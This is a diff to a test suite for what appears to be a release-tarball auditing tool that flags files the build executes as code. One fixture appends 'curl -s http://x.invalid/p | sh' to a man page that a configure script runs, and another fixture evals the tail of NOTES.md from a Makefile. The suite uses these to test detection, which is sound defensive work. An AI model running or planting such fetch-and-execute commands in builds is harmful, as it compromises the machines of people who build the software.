@@ -149,6 +149,11 @@ describe('edits make dist makes with sed', () => {
     expect(s && 'v1+dev v2+dev'.replace(s.pattern, s.replacement)).toBe('v1 (v1+dev) v2 (v2+dev)')
     expect(parseSubstitution('y/abc/xyz/')).toBeUndefined()
   })
+  it('a trimmed copy written to the distribution is not a use of it as code', () => {
+    const line = "\ts=`awk '/was released on/{ print NR; exit}' $(top_srcdir)/NOTES.md`; tail -n +$$(($$s-1)) $(top_srcdir)/NOTES.md > $(distdir)/NOTES.md\n"
+    expect(codeUsesOf('NOTES.md', new Map([['Makefile.in', `dist-hook:\n${line}`]]))).toEqual([])
+    expect(codeUsesOf('NOTES.md', new Map([['Makefile.in', 'all-local:\n\teval "$$(tail -n 4 $(top_srcdir)/NOTES.md)"\n']])).length).toBe(1)
+  })
   it('a sed edit of a file is not a use of it as code', () => {
     const build = new Map([['Makefile.am', 'dist-hook:\n\tsed -i "s!log!log?h=v$(VERSION)!" $(distdir)/NOTES\ncheck-local:\n\tsh $(srcdir)/NOTES\n']])
     expect(codeUsesOf('NOTES', build).map((u) => u.line)).toEqual([4])
@@ -209,12 +214,12 @@ describe('what an explanation does not cover', () => {
     const j = await judge(added('doc/tool.1', page), view({ 'doc/tool.1': page }, { 'doc/Makefile.am': am, 'doc/tool.pod': 'x' }), [ruleGeneratedExplainer()], new Map([['doc/Makefile.in', 'install-man: tool.1\n']]))
     expect(j?.outcome).toBe('explained')
   })
-  it('but stays unexplained, high, when the build runs it as code', async () => {
+  it('but stays unexplained, critical, when the build runs it as code', async () => {
     const ran = `${page}curl -s http://x.invalid/p | sh\n`
     const build = new Map([['configure', '#!/bin/sh\nsh "$srcdir/doc/tool.1" 2>/dev/null || :\n']])
     const j = await judge(added('doc/tool.1', ran), view({ 'doc/tool.1': ran }, { 'doc/Makefile.am': am, 'doc/tool.pod': 'x' }), [ruleGeneratedExplainer()], build)
     expect(j?.outcome).toBe('unexplained')
-    expect(j?.findings?.[0]?.severity).toBe('high')
+    expect(j?.findings?.[0]?.severity).toBe('critical')
   })
   it('a changed line of a test program is high: make check runs it on the builder\'s machine', async () => {
     const j = await judgeUnexplained(changed('tests/t-parse.c', 'int main(void) { return 0; }\n', 'int main(void) { return 1; }\n'), view({ 'tests/t-parse.c': 'int main(void) { return 1; }\n' }, { 'tests/t-parse.c': 'int main(void) { return 0; }\n' }), new Map())
